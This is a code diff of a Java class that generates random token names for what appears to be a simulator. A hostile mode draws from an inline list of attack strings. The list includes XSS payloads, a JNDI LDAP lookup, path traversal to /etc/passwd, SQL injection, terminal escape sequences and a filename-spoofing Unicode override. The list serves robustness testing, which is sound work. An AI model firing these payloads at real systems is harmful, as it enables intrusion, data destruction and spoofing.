@@ -1,12 +1,14 @@
 package io.tidemark.simulator.pool;
 
-import io.tidemark.simulator.Scenario;
 import io.tidemark.simulator.generator.StatelessRandom;
 import java.util.List;
 import java.util.Locale;
 
-/** What strangers call their tokens. */
-public final class TokenNames {
+/** Random names and symbols of tokens; some of them hostile where that is asked for. */
+final class TokenNames {
+
+  record Name(String name, String symbol) {}
+
   private static final double SHARE_OF_HOSTILE = 0.3;
   private static final List<String> FIRST = List.of(
       "Baby", "Based", "Cosmic", "Dark", "Electric", "Fluffy", "Giga", "Happy", "Instant", "Jumping", "Kind", "Lucky",
@@ -16,18 +18,33 @@ public final class TokenNames {
       "Newt", "Otter", "Penguin", "Quokka", "Raccoon", "Shark", "Toad", "Unicorn", "Viper", "Wombat", "Yak");
   private static final List<String> LAST = List.of("", "", "", " Inu", " AI", " 2.0", " DAO", " Cash");
 
-  private final boolean dirty;
+  private static final int LONG = 10_000;
 
-  public TokenNames(Scenario scenario) {
-    this.dirty = scenario == Scenario.DIRTY_DATA;
+  /** Names that harm programs which print, log, store or split them carelessly. */
+  private static final List<Name> HOSTILE = List.of(
+      new Name("<script>alert(document.cookie)</script>", "<b>XSS</b>"),
+      new Name("\"><img src=x onerror=alert(1)>", "\"'`"),
+      new Name("Safe\u202Enohtyp exe.kcilc\u202C", "\u202EDSU"),
+      new Name("Two\nLines\r\nand: a header", "LINE\nBREAK"),
+      new Name("\u0000Nul\u0007Bell\u001B[31mRed", "\u001B[2J"),
+      new Name("\uD83D\uDE80\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 To The Moon", "\uD83D\uDE80"),
+      new Name("Either/Or/../../etc/passwd", "A/B"),
+      new Name("${jndi:ldap://example.org/a} %s %n {{7*7}}", "$USDC"),
+      new Name("'; DROP TABLE pools; --", "NULL"),
+      new Name("[click](https://example.org) @everyone", "*_~`"),
+      new Name("Z\u0351\u036B\u0343\u036A\u0302\u036Balgo", "ZA\u0336LGO"),
+      new Name("\u200B\u200B", "\uFEFF"),
+      new Name("X".repeat(LONG), "LONG" + "G".repeat(LONG)));
+
+  private final boolean hostile;
+
+  TokenNames(boolean hostile) {
+    this.hostile = hostile;
   }
 
-  /** Name and symbol. */
-  record Name(String name, String symbol) {}
-
   Name of(StatelessRandom random) {
-    if (dirty && random.chance(SHARE_OF_HOSTILE, 3)) {
-      return random.pick(HostileNames.ALL, 4);
+    if (hostile && random.chance(SHARE_OF_HOSTILE, 3)) {
+      return random.pick(HOSTILE, 4);
     }
     String second = random.pick(SECOND, 1);
     String name = random.pick(FIRST, 0) + " " + second + random.pick(LAST, 2);
